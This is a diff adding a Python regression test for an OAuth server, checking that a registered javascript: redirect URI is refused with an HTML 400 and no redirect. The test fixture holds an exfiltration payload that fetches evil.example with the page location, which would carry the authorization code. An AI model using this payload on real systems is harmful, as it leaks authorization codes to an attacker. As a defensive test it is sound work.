@@ -194,6 +194,20 @@ def test_redirect_uri_must_match_exactly(signed_in_flow, testapp):
         assert response.content_type == "text/html"
 
 
+def test_a_registered_javascript_redirect_uri_is_never_redirected_to(testapp, dbsession):
+    """Registered before app create refused such schemes: a code sent there
+    would run in the browser (RFC 9700 §4.1.3)."""
+    uri = "javascript:fetch('//evil.example/?'+location)//"
+    application, _ = factories.make_application(redirect_uris=[uri])
+    user = factories.make_user()
+    dbsession.flush()
+    testapp.post("/signin", {"email": user.email, "password": factories.DEFAULT_PASSWORD,
+                             "csrf_token": testapp.get("/signin").forms["signin"]["csrf_token"].value})
+    response = testapp.get(authorization_url(application.client_id, uri), status=400)
+    assert "Location" not in response.headers
+    assert response.content_type == "text/html"
+
+
 def test_missing_redirect_uri_is_an_html_400(flow, testapp):
     url = f"/oauth/authorization?client_id={flow.application.client_id}&response_type=code"
     assert "Location" not in testapp.get(url, status=400).headers
